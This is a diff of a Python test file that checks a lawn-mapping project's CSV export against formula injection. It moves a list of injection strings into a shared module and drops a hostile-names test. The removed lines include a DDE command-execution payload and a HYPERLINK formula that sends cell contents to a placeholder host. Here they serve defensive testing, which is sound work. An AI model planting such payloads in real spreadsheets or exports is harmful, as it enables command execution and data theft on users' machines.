@@ -10,25 +10,8 @@ from lawnmap.exports.gis import csv_table
 from lawnmap.files import csv_text
 from lawnmap.processing.disclose import disclose
 from lawnmap.readers import cells
-from tests.exports.names import HOSTILE
-from tests.exports.papers import grid, paper
-
-# What the CSV injection page of the Open Worldwide Application Security Project warns of: cells
-# that begin with = + - @ TAB CR or LF (from memory), with blanks or an apostrophe before them.
-FORMULAS = [
-    "=1+1",
-    "+44 lawn",
-    "-2+3",
-    "@SUM(A1:A9)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "   =1+1",
-    '=HYPERLINK("http://example.invalid/?x="&A1;"look")',
-    "=cmd|' /C calc'!A0",
-    "'=1+1",
-    "-",
-]
+from tests.exports.names import FORMULAS
+from tests.exports.papers import of_formulas, paper
 
 
 def lines(data):
@@ -72,12 +55,10 @@ def test_numbers_stay_numbers():
 
 @pytest.mark.parametrize("column", ["name", "product", "remark", "flag", "client_number"])
 def test_no_text_is_a_formula_and_all_of_it_comes_back(column):
-    for formula in FORMULAS:
-        made = paper([formula] * 12, said=formula)
-        data = csv_table.render(made)
-        for row in lines(data):
-            assert not re.match(r"\s*[=+\-@\t\r\n]", row[column])
-        assert set(read_back(data, column)) == {formula}
+    data = csv_table.render(of_formulas())
+    for row in lines(data):
+        assert not re.match(r"\s*[=+\-@\t\r\n]", row[column])
+    assert set(read_back(data, column)) == set(FORMULAS)
 
 
 def test_a_negative_number_is_no_formula():
@@ -85,12 +66,6 @@ def test_a_negative_number_is_no_formula():
     steps = made.plan.steps.assign(amount=-1.5)
     data = csv_table.render(made.of(plan=replace(made.plan, steps=steps)))
     assert {row["amount"] for row in lines(data)} == {"-1.5"}
-
-
-def test_hostile_names_come_back_as_typed():
-    made = paper(HOSTILE, shapes=grid(len(HOSTILE)))
-    found = read_back(csv_table.render(made), "name")
-    assert list(dict.fromkeys(found)) == HOSTILE
 
 
 def test_a_client_gets_no_private_note_and_no_hours():
